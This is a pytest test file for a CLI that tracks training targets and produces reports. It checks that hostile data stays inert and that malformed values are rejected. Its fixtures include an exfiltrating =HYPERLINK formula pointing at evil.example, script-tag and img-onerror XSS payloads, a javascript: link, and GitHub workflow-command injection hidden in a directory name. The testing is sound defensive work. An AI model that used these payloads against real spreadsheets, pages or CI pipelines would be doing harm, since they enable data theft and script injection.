"""Issue 10: hostile data never changes a figure silently, never crashes, never reaches outside.

Every test goes through the CLI, as a user would, and asserts what a user relies on: the
figure, the problem code and line, the exit code.
"""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

import pytest
from gitrepo import invoke

TARGETS = """\
plan:
  id: p
  period: {start: 2021-01-01, end: 2025-12-31}
targets:
  - id: T1
    metric: trained_establishments
    target: 3
"""
ENTERPRISES = """\
- id: E1
  name: Công ty A
  type: enterprise
- id: E2
  name: HTX B
  type: cooperative
"""
TRAININGS = """\
- id: TH-0001
  title: 5S
  date: 2022-05-15
  topics: [improvement_tools]
  participants: [E1]
"""


def project(tmp_path: Path, files: dict[str, str], targets: str = TARGETS) -> Path:
    tmp_path.mkdir(parents=True, exist_ok=True)
    (tmp_path / "targets.yaml").write_text(targets, encoding="utf-8")
    data = tmp_path / "data"
    data.mkdir(exist_ok=True)
    for name, text in {"enterprises.yaml": ENTERPRISES, **files}.items():
        (data / name).parent.mkdir(parents=True, exist_ok=True)
        (data / name).write_text(text, encoding="utf-8")
    return tmp_path


def args(root: Path, *command: str) -> list[str]:
    return [*command, "--data", str(root / "data"), "--targets", str(root / "targets.yaml")]


def status(root: Path) -> dict:
    code, out, err = invoke(
        *args(root, "status", "--format", "json", "--no-cache"), "--as-of", "2023-01-01"
    )
    assert code in (0, 1), err
    return json.loads(out)


def validate(root: Path) -> tuple[int, list[dict]]:
    code, out, _ = invoke(*args(root, "validate", "--format", "json", "--no-cache"))
    return code, json.loads(out)["problems"]


# --- 2. both YAML readers give the same figure ----------------------------------------------


def test_a_comment_anywhere_does_not_change_the_figures(tmp_path: Path) -> None:
    trainings = TRAININGS + TRAININGS.replace("TH-0001", "'TH-0001 '").replace("[E1]", "[E2]")
    plain = status(project(tmp_path / "a", {"trainings.yaml": trainings}))
    commented = status(project(tmp_path / "b", {"trainings.yaml": "# note\n" + trainings}))
    assert plain == commented
    assert plain["targets"][0]["value"] == 1  # the second TH-0001 is a duplicate, left out
    _, problems = validate(project(tmp_path / "a", {"trainings.yaml": trainings}))
    assert [(p["code"], p["line"]) for p in problems] == [("duplicate-id", 6)]


# --- 4. numbers and dates at the edges --------------------------------------------------------


@pytest.mark.parametrize("value", ["inf", "-inf", "1e309", "1e308", ".nan", "nan", ".inf"])
def test_target_numbers_beyond_reason_are_invalid_values(tmp_path: Path, value: str) -> None:
    root = project(tmp_path, {}, TARGETS.replace("target: 3", f"target: {value}"))
    code, problems = validate(root)
    assert code == 1
    assert [(p["code"], p["line"]) for p in problems] == [("invalid-value", 7)]
    code, out, err = invoke(*args(root, "status", "--no-cache"))
    assert code == 0 and "internal" not in err
    assert "Targets left out (targets.yaml has errors): T1." in err


@pytest.mark.long
def test_a_period_to_the_end_of_the_calendar(tmp_path: Path) -> None:
    targets = TARGETS.replace("2021-01-01, end: 2025-12-31", "0001-01-01, end: 9999-12-31")
    root = project(tmp_path, {"trainings.yaml": TRAININGS}, targets)
    for extra in (["--projection"], ["--as-of", "9999-12-31", "--projection"]):
        code, out, err = invoke(*args(root, "status", "--no-cache"), *extra)
        assert code == 0, err
        assert "internal" not in err
    out_file = tmp_path / "r.md"
    code, _, err = invoke(*args(root, "report", "-o", str(out_file)), "--as-of", "9999-12-31")
    assert code == 0, err


# --- 5. control characters --------------------------------------------------------------------


@pytest.mark.parametrize("escape", ["\\x01", "\\x00", "\\x7f", "\\x85", "\\x9b", "\\e"])
def test_control_characters_are_invalid_values(tmp_path: Path, escape: str) -> None:
    enterprises = ENTERPRISES.replace("name: HTX B", f'name: "HTX{escape}B"')
    root = project(tmp_path, {"trainings.yaml": TRAININGS, "enterprises.yaml": enterprises})
    code, problems = validate(root)
    assert code == 1
    assert [(p["code"], p["line"], p["field"]) for p in problems] == [("invalid-value", 5, "name")]


def test_no_report_carries_a_control_character(tmp_path: Path) -> None:
    enterprises = ENTERPRISES.replace("name: HTX B", 'name: "HTX\\x00B\\x01"')
    trainings = TRAININGS.replace("[E1]", "[E1, E2]")
    root = project(tmp_path, {"trainings.yaml": trainings, "enterprises.yaml": enterprises})
    for suffix in ("html", "md", "xlsx"):
        out = tmp_path / f"r.{suffix}"
        code, _, err = invoke(*args(root, "report", "-o", str(out)), "--as-of", "2023-01-01")
        assert code == 0, err
        blob = out.read_bytes()
        if suffix == "xlsx":
            blob = b"".join(
                zipfile.ZipFile(io.BytesIO(blob)).read(n)
                for n in zipfile.ZipFile(io.BytesIO(blob)).namelist()
            )
        assert b"\x00" not in blob and b"\x01" not in blob


# --- 6. data never becomes active content -------------------------------------------------------


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _hostile_project(tmp_path: Path) -> Path:
    enterprises = ENTERPRISES.replace(
        "name: HTX B", f"name: '{HOSTILE}'\n  locality: '<script>alert(1)</script>'"
    ).replace("name: Công ty A", "name: '[x](javascript:alert(1)) <img src=x onerror=alert(1)>'")
    trainings = TRAININGS.replace("[E1]", "[E1, E2]")
    return project(tmp_path, {"trainings.yaml": trainings, "enterprises.yaml": enterprises})


def test_xlsx_report_writes_formula_looking_text_as_text(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    root = _hostile_project(tmp_path)
    out = tmp_path / "r.xlsx"
    code, _, err = invoke(*args(root, "report", "-o", str(out)), "--as-of", "2023-01-01")
    assert code == 0, err
    found = []
    for ws in load_workbook(out).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and "HYPERLINK" in cell.value:
                    found.append(cell.value)
    assert found, "the name is in the report, as text"


def test_markdown_report_escapes_tags_and_links(tmp_path: Path) -> None:
    root = _hostile_project(tmp_path)
    out = tmp_path / "r.md"
    code, _, err = invoke(*args(root, "report", "-o", str(out)), "--as-of", "2023-01-01")
    assert code == 0, err
    text = out.read_text(encoding="utf-8")
    assert "javascript" in text  # the name is there, inert
    assert "<script" not in text and "<img" not in text
    assert "](javascript" not in text


def test_github_output_cannot_be_given_workflow_commands(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = project(tmp_path, {})
    evil = root / "data" / "trainings" / "x\n::notice title=owned::hi"
    evil.mkdir(parents=True)
    (evil / "a.yaml").write_text("- id: 'bad id'\n", encoding="utf-8")
    (root / "data" / "trainings" / "y.yaml").write_text(
        '- id: T9\n  title: "a\\n::warning::b"\n  date: x\n  topics: [x]\n', encoding="utf-8"
    )
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    code, out, _ = invoke(*args(root, "validate", "--format", "github", "--no-cache"))
    assert code == 1
    commands = [line for line in out.splitlines() if line.startswith("::")]
    assert commands and all(
        line.startswith(("::error file=", "::warning file=")) for line in commands
    )
    assert not any(line.lstrip().startswith("::") for line in summary.read_text().splitlines())


# --- 7. the cache signing key ------------------------------------------------------------------


@pytest.mark.parametrize("content", [b"", b"short"])
def test_an_empty_or_short_key_is_replaced(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, content: bytes
) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "user-cache"))
    monkeypatch.delenv("PQP_NO_CACHE", raising=False)
    key = tmp_path / "user-cache" / "pqp" / "cache-key"
    key.parent.mkdir(parents=True)
    key.write_bytes(content)
    root = project(tmp_path / "p", {"trainings.yaml": TRAININGS})
    code, out, _ = invoke(*args(root, "status", "--format", "json"), "--as-of", "2023-01-01")
    assert code == 0
    assert len(key.read_bytes()) >= 32
    assert key.stat().st_mode & 0o777 == 0o600
    assert json.loads(out)["targets"][0]["value"] == 1


# --- 8. messages that point right -------------------------------------------------------------


def test_a_null_key_reports_its_own_line(tmp_path: Path) -> None:
    enterprises = ENTERPRISES + "- id: E3\n  name: C\n  type: household\n  null: 3\n"
    _, problems = validate(project(tmp_path, {"enterprises.yaml": enterprises}))
    assert [(p["code"], p["line"]) for p in problems] == [("unsupported-yaml", 10)], problems


def test_list_positions_count_from_one_everywhere(tmp_path: Path) -> None:
    trainings = TRAININGS.replace("[improvement_tools]", "[nothing]")
    targets = TARGETS + "  - id: T2\n    metric: experts\n    target: -1\n"
    _, problems = validate(project(tmp_path, {"trainings.yaml": trainings}, targets))
    fields = sorted(
        p["message"].split('"')[1] if '"' in p["message"] else p["message"].split()[0]
        for p in problems
    )
    assert fields == ["targets.2.target", "topics.1"], problems


def test_the_banner_names_the_targets_left_out(tmp_path: Path) -> None:
    targets = TARGETS + "  - id: T2\n    metric: experts\n    target: -1\n"
    root = project(tmp_path, {"trainings.yaml": TRAININGS}, targets)
    code, out, err = invoke(*args(root, "status", "--no-cache"), "--as-of", "2023-01-01")
    assert "T2" in out + err
    code, out, err = invoke(
        *args(root, "status", "--no-cache", "--lang", "vi"), "--as-of", "2023-01-01"
    )
    assert "T2" in out + err


def test_explain_markdown_escapes_tags_and_links(tmp_path: Path) -> None:
    root = _hostile_project(tmp_path)
    code, out, err = invoke(
        *args(root, "explain", "T1", "--format", "markdown", "--no-cache"), "--as-of", "2023-01-01"
    )
    assert code == 0, err
    assert "javascript" in out and "<img" not in out and "](javascript" not in out


@pytest.mark.long
def test_word_report_for_a_period_from_year_one(tmp_path: Path) -> None:
    targets = TARGETS.replace("2021-01-01, end: 2025-12-31", "0001-01-01, end: 9999-12-31")
    root = project(tmp_path, {"trainings.yaml": TRAININGS}, targets)
    out = tmp_path / "r.docx"
    code, _, err = invoke(*args(root, "report", "-o", str(out)), "--as-of", "2021-01-01")
    assert code == 0, err
    import docx

    # 2,021 years: Word opens no table of more than 63 columns, and the page holds about nine
    tables = docx.Document(str(out)).tables
    assert max(len(t.columns) for t in tables) <= 9
    heads = [cell.text for table in tables for cell in table.rows[0].cells]
    assert {str(year) for year in range(1, 2021)} <= set(heads)  # each year still shown


def test_years_before_the_year_1000_are_in_the_order_of_time(tmp_path: Path) -> None:
    """A plan from the year 1: columns 1, 2, …, 9, 10, 11, then the as-of day (text order put
    10 and 11 before 2), in the CSV, the table, and the Word and Excel reports."""
    targets = TARGETS.replace("2021-01-01, end: 2025-12-31", "0001-01-01, end: 0020-12-31")
    root = project(tmp_path, {"trainings.yaml": TRAININGS}, targets)
    when = ("--as-of", "0012-06-30")
    code, out, err = invoke(*args(root, "status", "--format", "csv", "--by", "year"), *when)
    assert code == 0, err
    head = out.splitlines()[0].split(",")
    years = [h[8:] for h in head if h.startswith("by_year.") and not h.endswith(".in_year")]
    assert years == [*map(str, range(1, 12)), "0012-06-30"]
    code, out, err = invoke(*args(root, "status", "--by", "year"), *when)
    assert code == 0, err
    assert out.index(" 9 ") < out.index(" 10 ") < out.index(" 11 ")
    import docx
    import openpyxl

    for fmt in ("docx", "xlsx"):
        code, _, err = invoke(*args(root, "report", "-o", str(tmp_path / f"r.{fmt}")), *when)
        assert code == 0, err
    heads = [
        c.text for t in docx.Document(str(tmp_path / "r.docx")).tables for c in t.rows[0].cells
    ]
    numbers = [int(h) for h in heads if h.isdigit()]
    assert numbers[:11] == list(range(1, 12))
    sheets = openpyxl.load_workbook(tmp_path / "r.xlsx").worksheets
    cells = [str(c.value) for ws in sheets for c in ws[1] if c.value is not None]
    assert [c for c in cells if c.isdigit()][:11] == [str(y) for y in range(1, 12)]
